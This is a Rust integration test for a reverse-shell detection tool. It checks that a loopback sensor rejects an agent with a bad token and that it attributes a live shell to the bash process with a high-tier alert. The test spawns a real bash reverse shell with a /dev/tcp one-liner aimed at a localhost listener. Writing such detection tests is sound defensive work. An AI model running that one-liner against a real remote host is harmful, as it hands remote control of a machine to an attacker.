//! The live sensor with agents: an agent streams its inventory over TCP to a sensor
//! capturing on loopback, a real bash reverse shell runs against a listener typing
//! commands, and the alert names the shell process. A peer with a wrong token is
//! rejected. Needs root (live capture); set SHELLSIGHT_SKIP_PRIVILEGED=1 to skip.

mod agent_support;
mod common;

use agent_support::privileged;
use common::*;
use std::net::TcpListener;
use std::process::{Command, Stdio};
use std::time::Duration;

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

#[test]
fn an_agent_stream_attributes_a_live_reverse_shell_and_bad_tokens_are_rejected() {
    if !privileged() {
        return;
    }
    let dir = std::env::temp_dir().join(format!("ss-sensor-agents-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let token = dir.join("token");
    std::fs::write(&token, "a-shared-token-for-tests-0123456789\n").unwrap();
    let bad_token = dir.join("bad-token");
    std::fs::write(&bad_token, "not-the-right-token-0123456789\n").unwrap();
    let alerts = dir.join("alerts.jsonl");
    let (shell_port, agent_port) = (free_port(), free_port());
    let listen = format!("127.0.0.1:{agent_port}");

    let sensor = Command::new(bin())
        .args(["sensor", "--interface", "lo", "--bpf", &format!("tcp port {shell_port}")])
        .args(["--agent-listen", &listen, "--token-file", token.to_str().unwrap()])
        .args(["--duration", "24", "--format", "json", "-o", alerts.to_str().unwrap(), "-v"])
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(1500));
    let mut agent = Command::new(bin())
        .args(["agent", "--connect", &listen, "--token-file", token.to_str().unwrap(), "--interval", "500ms"])
        .args(["--duration", "22"])
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut intruder = Command::new(bin())
        .args(["agent", "--connect", &listen, "--token-file", bad_token.to_str().unwrap(), "--duration", "3"])
        .stderr(Stdio::null())
        .spawn()
        .unwrap();

    let listener = TcpListener::bind(("127.0.0.1", shell_port)).unwrap();
    let typist = std::thread::spawn(move || operator(listener));
    std::thread::sleep(Duration::from_millis(1000));
    let mut shell = Command::new("bash")
        .args(["-c", &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{shell_port} 0>&1")])
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    typist.join().unwrap();
    let _ = shell.wait();
    let _ = intruder.wait();
    let _ = agent.wait();
    let out = sensor.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "sensor failed: {err}");
    assert!(err.contains("rejected: bad token"), "the bad token was not rejected and logged:\n{err}");

    let records = json_lines(&std::fs::read(&alerts).unwrap());
    let alerts: Vec<_> = records.iter().filter(|r| r["event"]["kind"] == "alert").collect();
    assert!(!alerts.is_empty(), "no alert:\n{err}");
    let attributed = alerts
        .iter()
        .find(|a| a["process"]["name"] == "bash")
        .unwrap_or_else(|| panic!("no alert names the bash process: {alerts:?}"));
    assert_eq!(attributed["shellsight"]["tier"], "high");
    let reasons = attributed["shellsight"]["reasons"].as_array().unwrap();
    assert!(reasons.iter().any(|r| r == "stdio-socket"), "{reasons:?}");
    assert!(attributed["process"]["command_line"].as_str().unwrap().contains("bash --norc -i"));
    assert!(attributed["host"]["name"].is_string());
    assert!(records.iter().any(|r| r["event"]["kind"] == "metric"), "no stats record");
}
